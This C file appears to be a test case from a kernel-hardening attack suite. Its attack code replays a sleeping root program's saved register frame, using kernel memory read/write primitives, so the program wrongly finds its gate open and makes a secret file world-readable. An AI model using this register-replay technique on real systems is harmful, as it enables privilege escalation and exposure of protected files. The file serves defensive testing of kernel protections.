// SPDX-License-Identifier: GPL-2.0-only
#include "registers.h"

ATTACK("shadow_stack", "replayed_state",
       "exclusive_frames: access to a frame that the kernel does not map",
       "A program of root keeps in a register whether its gate is open, and sleeps. The "
       "attacker keeps the saved registers of a sleep with the gate open and puts them back when "
       "it sleeps with the gate closed.",
       "No mapping but the program's own shows them: nobody keeps them, nor writes them again.",
       "Root's program finds its gate open and makes the secret file public.");

#define WORDS 22
#define KEPT 512

struct sleep {
	uint64_t pointer, words[WORDS];
};

static struct sleep kept[KEPT];

static bool control(void)
{
	return is_ordinary();
}

static uint64_t copy_of(uint64_t task)
{
	return saved_thread(peek(task + member("task.arch.stack_top")));
}

/* False: it does not sleep, or not all of it is of one sleep. */
static bool sleep_read(uint64_t task, struct sleep *sleep)
{
	const uint64_t copy = copy_of(task), asleep = copy + member("saved_thread.asleep");
	const uint64_t frame = registers_of(task);

	if (!peek8(asleep))
		return false;
	sleep->pointer = peek(copy + member("saved_thread.pointer"));
	for (int i = 0; i < WORDS; i++)
		sleep->words[i] = peek(frame + 8 * (uint64_t)i);
	return peek8(asleep) && peek(copy + member("saved_thread.pointer")) == sleep->pointer;
}

static void sleep_write(uint64_t task, const struct sleep *sleep)
{
	const uint64_t frame = registers_of(task);

	for (int i = 0; i < WORDS; i++)
		poke(frame + 8 * (uint64_t)i, sleep->words[i]);
}

static const struct sleep *kept_at(uint64_t pointer, int count)
{
	for (int i = 0; i < count; i++)
		if (kept[i].pointer == pointer)
			return &kept[i];
	return NULL;
}

static bool fire(void)
{
	const uint64_t task = victim_task(own_task()), rbx = member("arch_frame.rbx") / 8;
	const struct sleep *before;
	struct sleep now;
	int count = 0;

	(void)own_cpu(0);
	for (; !reads_prize(); sleep_milliseconds(1)) {
		if (!sleep_read(task, &now))
			continue;
		before = kept_at(now.pointer, count);
		if (now.words[rbx] != 0 && !before && count < KEPT)
			kept[count++] = now;
		else if (now.words[rbx] == 0 && before)
			sleep_write(task, before);
	}
	return true;
}

static void victim(void)
{
	static const long pause_time[2] = { 0, 10000000 };

	(void)own_cpu(1);
	victim_round();
	for (volatile bool open = true;; open = !open) {
		long gate = open;

		__asm__ volatile("syscall"
				 : "+b"(gate)
				 : "a"(__NR_nanosleep), "D"(pause_time), "S"(0)
				 : "rcx", "r11", "memory");
		if (gate && !open)
			call2(__NR_chmod, (long)PRIZE, 0644);
	}
}
